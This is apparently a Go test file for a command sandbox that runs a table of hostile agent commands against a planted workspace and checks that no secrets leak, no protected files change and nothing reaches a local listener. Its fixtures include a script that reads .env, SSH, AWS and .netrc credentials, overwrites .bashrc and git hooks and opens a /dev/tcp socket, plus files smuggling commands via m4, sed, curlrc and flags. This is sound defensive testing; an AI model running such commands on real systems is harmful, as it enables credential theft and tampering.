package held

import (
	"context"
	"fmt"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// hostileFiles are a workspace that is prepared for harm: what a command may run there
// prints secrets, writes where nothing may be written and sends what it has found.
var hostileFiles = map[string]string{
	"README.md": "# x\n", "flow.yaml": "name: x\n", "src/main.go": "package main\n", "src/old.go": "package main\n", "a.c": "int main(void) { return 0; }\n",
	".env": "KEY=in-the-secret\n", ".env.local": "KEY=in-the-secret\n", "private/x": "in-the-secret\n",
	"~/.ssh/id_ed25519": "in-the-secret\n", "~/.aws/credentials": "in-the-secret\n", "~/.netrc": "machine a.example password in-the-secret\n", "~/.bashrc": "rc\n",
	"docs/a.md": "a\n", "docs/a.m4": "syscmd(docs/x)\n", "docs/x.sed": "1e docs/x\n", "docs/list": ".env\nprivate/x\n", "docs/n": "../..", "docs/flags": "-exec=docs/x\n",
	"docs/Makefile": "test:\n\t./docs/x\n", "docs/package.json": `{"scripts": {"test": "./x"}}`, "docs/x.py": "import os; os.system('docs/x')\n", "docs/curlrc": "upload-file = .env\n", "docs/o.json": "{}",
	"Makefile": "test:\n\ttrue\n", "package.json": `{"scripts": {"test": "true", "build": "true"}}`, "scripts/a.py": "print(1)\n",
	"docs/x": "#!/bin/bash\ncat .env .env.* private/x ~/.ssh/* ~/.aws/* ~/.netrc .git/config /proc/*/environ /proc/*/cmdline\necho pwned > src/pwned; echo pwned > .git/hooks/pre-commit; echo pwned >> flow.yaml; echo pwned > ~/.bashrc; echo pwned > /etc/flow-fuzz\n" +
		"exec 9<>/dev/tcp/127.0.0.1/$PORT; sleep $MARK & setsid sleep $MARK &\n",
}

// TestHostileForReal runs what does harm as it stands, though words would deny nearly
// all of it: here only the view holds it. Nothing but docs changes, nothing that is
// hidden is printed or copied, nothing is sent, and nothing goes on.
func TestHostileForReal(t *testing.T) {
	commands := hostileCommands(t)
	t.Setenv("FLOW_CANARY", "in-the-secret")
	f := newFixture(t, SpaceOptions{Hidden: hidesAgents})
	f.space.o.Protected = []string{f.root + "/flow.yaml"}
	f.write(hostileFiles)
	inDocs := maps.Clone(hostileFiles)
	maps.DeleteFunc(inDocs, func(name, _ string) bool { return !strings.HasPrefix(name, "docs/") })
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"config", "user.password", "in-the-secret"}, {"add", "docs", "src", "README.md"}, {"-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-qm", "x"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = f.root, []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Skipf("SKIPPED: git %s: %v %s", args, err, out)
		}
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer listener.Close()
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	before := fuzzState(t, f)
	for _, command := range commands {
		command = strings.ReplaceAll(command, "https://a.example", "http://127.0.0.1:"+port)
		f.harm(t, command, port, before)
		must(t, os.RemoveAll(f.root+"/docs")) // what has landed there is no help for the next one
		f.write(inDocs)
		must(t, os.Chmod(f.root+"/docs/x", 0o755))
	}
	must(t, listener.(*net.TCPListener).SetDeadline(time.Now()))
	if conn, err := listener.Accept(); err == nil {
		conn.Close()
		t.Error("something came to the listener")
	}
	awaitEnd("sleep " + hostileMark())
}

// hostileMark is a number of seconds that no other process sleeps.
func hostileMark() string { return fmt.Sprintf("8%d", os.Getpid()) }

// hidesAgents hides what the policies of those commands hide.
func hidesAgents(path string, folder bool) bool {
	name := filepath.Base(path)
	return strings.HasPrefix(name, ".env") || name == "private" && folder || name == "config" && filepath.Base(filepath.Dir(path)) == ".git"
}

func hostileCommands(t *testing.T) (all []string) {
	text, err := os.ReadFile("../../permission/testdata/agents/hostile.txt")
	if os.IsNotExist(err) { // this is another user's copy of the program
		t.Skip("the table of commands is not here")
	}
	must(t, err)
	for line := range strings.Lines(string(text)) {
		line = strings.TrimPrefix(strings.TrimPrefix(strings.TrimSpace(line), "files: "), "kernel: ")
		if line == "" || strings.HasPrefix(line, "# ") || strings.HasPrefix(line, "rule ") {
			continue
		}
		if unquoted, err := strconv.Unquote(line); err == nil && line[0] == '"' {
			line = unquoted
		}
		if line == "grep -r x /" {
			line = "grep -r x ~ .. /etc/hostname" // not all that this machine has
		}
		all = append(all, line)
	}
	if len(all) != 200 {
		t.Fatalf("%d commands", len(all))
	}
	return all
}

// harm runs one command, lands what a rule for docs lets land, and looks for harm.
func (f *fixture) harm(t *testing.T, command, port string, before map[string]string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
	defer cancel()
	v, err := f.space.Begin(Call{Offline: true, Git: strings.HasPrefix(command, "git ")})
	must(t, err)
	defer v.Close()
	out, err := memory("out", nil)
	must(t, err)
	defer out.Close()
	cmd := exec.CommandContext(ctx, "bash", "--noprofile", "--norc", "-c", command)
	cmd.Stdout, cmd.Stderr, cmd.Dir = out, out, f.root
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + f.home, "PORT=" + port, "MARK=" + hostileMark()}
	must(t, v.Wrap(cmd))
	must(t, cmd.Start())
	_ = cmd.Wait()
	printed, err := os.ReadFile("/proc/self/fd/" + strconv.Itoa(int(out.Fd())))
	must(t, err)
	if strings.Contains(string(printed), "in-the-secret") {
		t.Errorf("%s\nread a secret: %.2000s", command, printed)
	}
	if _, err := v.Land(only("docs/"), false); err != nil {
		t.Errorf("%s\n%v", command, err)
	}
	after := fuzzState(t, f)
	for path, state := range after {
		rel, _ := strings.CutPrefix(path, f.root+"/")
		switch {
		case before[path] == state, strings.HasPrefix(path, f.home), path == f.root, rel == ".git", rel == "docs":
		case strings.HasPrefix(rel, ".git/") && gitMayWrite(strings.Split(strings.ToLower(rel), "/")[1:], state[0] == 'd'):
		case strings.HasPrefix(rel, "docs/"):
			if text, _ := os.ReadFile(path); strings.Contains(string(text), "in-the-secret") {
				t.Errorf("%s\ncopied a secret to %s", command, rel)
			}
		default:
			t.Errorf("%s\nlanded %s: %s\n%.500s", command, path, state, printed)
		}
	}
	for path := range before {
		var info unix.Stat_t
		if rel, _ := strings.CutPrefix(path, f.root+"/"); unix.Lstat(path, &info) != nil && !strings.HasPrefix(rel, "docs/") && !strings.HasPrefix(path, f.home+"/.local") && !strings.HasPrefix(rel, ".git/") {
			t.Errorf("%s\ndeleted %s", command, path)
		}
	}
	for _, name := range []string{".bashrc", ".ssh/id_ed25519", ".aws/credentials", ".netrc"} {
		if at := filepath.Join(f.home, name); before[at] != after[at] {
			t.Errorf("%s\nchanged ~/%s", command, name)
		}
	}
}
